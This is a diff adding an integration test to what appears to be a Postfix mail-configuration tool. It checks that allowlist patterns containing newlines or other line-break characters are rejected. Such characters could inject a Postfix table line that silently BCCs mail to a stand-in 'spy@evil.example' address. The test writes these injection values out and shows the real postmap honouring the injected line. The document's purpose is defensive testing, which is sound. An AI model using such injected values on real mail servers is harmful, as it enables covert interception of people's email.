@@ -167,4 +167,41 @@ describe.skipIf(skip !== null)(suite('homemail inbound on the test host'), () =>
     expect(await postconf('smtpd_client_restrictions')).toBe(ORIGINAL);
     expect((await host.runAsRoot('test -e /etc/postfix/homemail_client_allow; echo $?')).stdout.trim()).toBe('1');
   });
+
+  it('refuses an allowlist pattern carrying a newline (an injected BCC line) at the CLI and the contract: exit 2, bad-input, the server byte-identical', async () => {
+    const applied = await cli(host, ['inbound', '--remove-dead', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--apply', '--json']);
+    expect(applied.err).toBe('');
+    const backupId = (JSON.parse(applied.out) as InboundJson).backupId ?? '';
+    const before = await host.snapshot();
+    const tableBefore = await host.readFile('/etc/postfix/homemail_client_allow');
+
+    // What the review found: Postfix itself would honour the injected line. The table the
+    // old writer produced, compiled by the server's real postmap, answers BCC for "unknown".
+    const injected = '/^a\n|.| BCC spy@evil.example\n/';
+    const oldTable = `${injected} DUNNO\n/./ reject_unknown_client_hostname\n`;
+    const demo = await host.runAsRoot('d=$(mktemp -d) && cat > "$d/t" && postmap -q unknown "regexp:$d/t"; rm -rf "$d"', { stdin: oldTable });
+    expect(demo.stdout.trim()).toBe('BCC spy@evil.example');
+
+    for (const hostile of [injected, '/^a\r|.| BCC spy@evil.example/', '/^a\u2028x/', '/^a\u0085x/', '/unk/', '/^[a-z]+$/']) {
+      const run = await cli(host, ['inbound', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--allow', hostile, '--apply']);
+      expect(run.code, JSON.stringify(hostile)).toBe(2);
+      expect(run.err, JSON.stringify(hostile)).toMatch(/allow entry 2 .*(control character|"unknown")/);
+      expect(run.err).not.toMatch(/[\r\u2028\u0085]/);
+    }
+    const { createHandlers } = await import('../../main/services/index.js');
+    const { dispatch } = await import('../../main/ipc/dispatch.js');
+    const handlers = createHandlers({ door: 'web', version: 'test', dataDir: mkdtempSync(path.join(tmpdir(), 'hm-inbound-door-')), now: () => new Date() });
+    const outcome = await dispatch(handlers, 'applyInbound', { sessionId: 'a'.repeat(24), domain: 'example.test', hostnameRule: 'strict', allow: [{ kind: 'regexp', value: injected }] }, { signal: new AbortController().signal, progress: () => undefined });
+    expect(outcome).toMatchObject({ ok: false, error: { code: 'bad-input' } });
+    expect(JSON.stringify(outcome)).toMatch(/U\+000A/);
+
+    expect(host.diffSnapshots(before, await host.snapshot())).toEqual([]);
+    expect((await host.readFile('/etc/postfix/homemail_client_allow')).equals(tableBefore)).toBe(true);
+    // The real table and the real smtpd: "unknown" still meets the host-name rule, nobody is BCC'd.
+    expect((await host.runAsRoot('postmap -q unknown regexp:/etc/postfix/homemail_client_allow')).stdout.trim()).toBe('reject_unknown_client_hostname');
+    expect(await rcptAs(host, 'ADDR=203.0.113.9 NAME=[UNAVAILABLE] REVERSE_NAME=[UNAVAILABLE]')).toMatch(/^[45]\d\d .*cannot find your hostname/);
+    expect(await rcptAs(host, 'ADDR=192.0.2.50 NAME=[UNAVAILABLE] REVERSE_NAME=partner.example.test')).toMatch(/^250/);
+
+    expect((await cli(host, ['rollback', '--backup', backupId])).code).toBe(0);
+  });
 });
